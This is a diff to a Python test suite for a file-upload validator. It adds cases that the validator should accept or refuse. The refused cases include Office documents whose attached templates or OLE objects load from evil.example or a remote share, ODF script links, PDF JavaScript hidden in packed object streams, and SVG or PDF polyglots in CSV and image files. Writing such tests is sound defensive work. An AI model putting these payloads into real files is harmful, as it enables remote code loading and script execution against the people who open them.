@@ -42,9 +42,20 @@ def pdf(extra: bytes = b"", *, head: bytes = b"", tail: bytes = b"") -> bytes:
     ) + tail
 
 
-def object_stream(content: bytes) -> bytes:
+def object_stream(content: bytes, *, how: bytes = b"", line_end: bytes = b"\n") -> bytes:
+    """Objects that are packed, `how` in the words of the stream's dictionary; hexadecimal if it says so."""
     packed = zlib.compress(content)
-    return pdf(head=b"9 0 obj\n<</Type/ObjStm/N 1/First 4>>stream\n" + packed + b"\nendstream\nendobj\n")
+    if b"ASCIIHex" in how:
+        packed = packed.hex().encode() + b">"
+    start = b"9 0 obj\n<</Type/ObjStm/N 1/First 4" + how + b">>stream" + line_end
+    return pdf(head=start + packed + b"\nendstream\nendobj\n")
+
+
+def related(kind: str, target: str, mode: str = "External") -> tuple[str, bytes]:
+    """A part that has to do with another file."""
+    type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    inside = f'<Relationship Id="a>b" Type="{type_}" Target="{target}" TargetMode="{mode}"/>'
+    return ("word/_rels/settings.xml.rels", f"<Relationships>{inside}</Relationships>".encode())
 
 
 def chunk(name: bytes, body: bytes = b"") -> bytes:
@@ -196,6 +207,16 @@ ACCEPTED = {
     "a link to a page about JavaScript": ("a.pdf", pdf(b"/A<</S/URI/URI(https://x.tw/JavaScript)>>")),
     "PDF names that only begin alike": ("a.pdf", pdf(b"/JSON 1/LaunchPad 2/EncryptMetadata true")),
     "PDF with packed objects": ("a.pdf", object_stream(b"<</Type/Page>>")),
+    "PDF with packed objects, the filter named": (
+        "a.pdf",
+        object_stream(b"<<>>", how=b"/Filter/FlateDecode"),
+    ),
+    "a letter's template on its author's machine": (
+        "a.docx",
+        ooxml("docx", related("attachedTemplate", "file:///C:\\Users\\lin\\外交部.dotm")),
+    ),
+    "a template by its name": ("a.docx", ooxml("docx", related("attachedTemplate", "外交部.dotm"))),
+    "a link": ("a.docx", ooxml("docx", related("hyperlink", "https://www.mofa.gov.tw/"))),
     "PDF whose compressed data happens to read /JS": (
         "a.pdf",
         pdf(head=b"3 0 obj\n<<>>stream\n\x80/JS \x81\nendstream\nendobj\n"),
@@ -295,6 +316,20 @@ REFUSED = {
         "empty zip": ("a.docx", archive()),
     },
     FileProblem.MALFORMED: {
+        "PDF objects packed twice": (
+            "a.pdf",
+            object_stream(b"<<>>", how=b"/Filter[/ASCIIHexDecode/FlateDecode]"),
+        ),
+        "PDF objects in hexadecimal": ("a.pdf", object_stream(b"<<>>", how=b"/Filter/#41SCIIHexDecode")),
+        "PDF objects with a predictor": (
+            "a.pdf",
+            object_stream(b"<<>>", how=b"/DecodeParms<</Predictor 12>>"),
+        ),
+        "PDF objects packed as it says elsewhere": ("a.pdf", object_stream(b"<<>>", how=b"/F#69lter 7 0 R")),
+        "PDF objects that are not packed": (
+            "a.pdf",
+            pdf(head=b"9 0 obj\n<</Type/ObjStm>>stream\n5 0 <<>>\nendstream\nendobj\n"),
+        ),
         "PDF cut off": ("a.pdf", pdf()[:-10]),
         "PDF without objects": ("a.pdf", b"%PDF-1.7\n%%EOF"),
         "PDF with a long tail": ("a.pdf", pdf(tail=b"\n" * 2000)),
@@ -383,6 +418,11 @@ REFUSED = {
         "SVG as CSV": ("a.csv", b" <svg onload=alert(1)>"),
         "XML as CSV": ("a.csv", b"<?xml version='1.0'?>"),
         "script in CSV": ("a.csv", b"a,b\n1,<script>alert(1)</script>"),
+        "SVG in CSV": ("a.csv", b'a\n"<svg onload=alert(1)>"'),
+        "PDF in CSV": ("a.csv", b"a\n%PDF-1.7\n"),
+        "PDF in PNG": ("a.png", png(chunk(b"tEXt", b"a\0" + pdf()))),
+        "PDF in JPEG": ("a.jpg", jpeg(segment(0xFE, pdf()))),
+        "SVG before the objects of a PDF": ("a.pdf", pdf(head=b"<svg onload=alert(1)>\n")),
         "PHP in CSV": ("a.csv", b"a,<?php system(1)"),
         "shell script as CSV": ("a.csv", b"#!/bin/sh\nrm"),
         "GIF and JS as CSV": ("a.csv", b"GIF89a=1;alert(1)"),
@@ -405,6 +445,32 @@ REFUSED = {
         "film": ("a.pdf", pdf(b"/Subtype/RichMedia")),
         "XFA form": ("a.pdf", pdf(b"/AcroForm<</XFA 5 0 R>>")),
         "in packed objects": ("a.pdf", object_stream(b"<</S/JavaScript/JS(app.alert(1))>>")),
+        "in packed objects after a lone CR": (
+            "a.pdf",
+            object_stream(b"<</S/JavaScript/JS(app.alert(1))>>", line_end=b"\r"),
+        ),
+        "a template from elsewhere": (
+            "a.docx",
+            ooxml("docx", related("attachedTemplate", "https://evil.example/a.dotm")),
+        ),
+        "a template from a server": (
+            "a.docx",
+            ooxml("docx", related("attachedTemplate", "\\\\evil\\a.dotm")),
+        ),
+        "a template from a server, as an address": (
+            "a.docx",
+            ooxml("docx", related("attachedTemplate", "file://evil/a.dotm")),
+        ),
+        "a template spelt otherwise": (
+            "a.docx",
+            ooxml("docx", related("attached&#84;emplate", "https://evil.example/a.dotm")),
+        ),
+        "an object from elsewhere": ("a.docx", ooxml("docx", related("oleObject", "http://evil.example/a"))),
+        "script of a document": ("a.odt", odf("text", ("x.xml", b'<a href="vnd.sun.star.script:a$b"/>'))),
+        "script behind a megabyte": (
+            "a.odt",
+            odf("text", ("x.xml", random.Random(1).randbytes(1_200_000) + b"vnd.sun.star.script:a")),
+        ),
         "behind a stream that is a comment": (
             "a.pdf",
             pdf(head=b"%stream\n3 0 obj<</S/JavaScript>>\n%endstream\n"),
@@ -416,6 +482,8 @@ REFUSED = {
         "workbook with macros": ("a.pptx", ooxml("pptx", ("ppt/embeddings/a.xlsm", b"PK"))),
         "ActiveX": ("a.docx", ooxml("docx", ("word/activeX/activeX1.bin", b"x"))),
         "OLE under another name": ("a.docx", ooxml("docx", ("word/media/image1.png", OLE))),
+        "web page in Office": ("a.docx", ooxml("docx", ("word/afchunk.htm", b"<p>"))),
+        "web page in ODF": ("a.odt", odf("text", ("a.html", b"<p>"))),
         "OLE in ODF": ("a.odt", odf("text", ("Object 1", OLE))),
         "program": ("a.odt", odf("text", ("Pictures/a.png", EXE))),
         "program by its name": ("a.odt", odf("text", ("Pictures/a.EXE", b"x"))),
@@ -458,6 +526,7 @@ def test_packed_objects_without_end_are_refused(monkeypatch: pytest.MonkeyPatch)
     packed = zlib.compress(bytes(5000))
     stream = b"3 0 obj<</Type/ObjStm>>stream\n" + packed + b"endstream\nendobj\n"
     assert problem("a.pdf", pdf(head=stream * 2)) == FileProblem.TOO_MUCH_INSIDE
+    assert problem("a.pdf", object_stream(b" " * 1000 + b"<</JS(x)>>")) == FileProblem.TOO_MUCH_INSIDE
 
 
 @pytest.mark.parametrize(
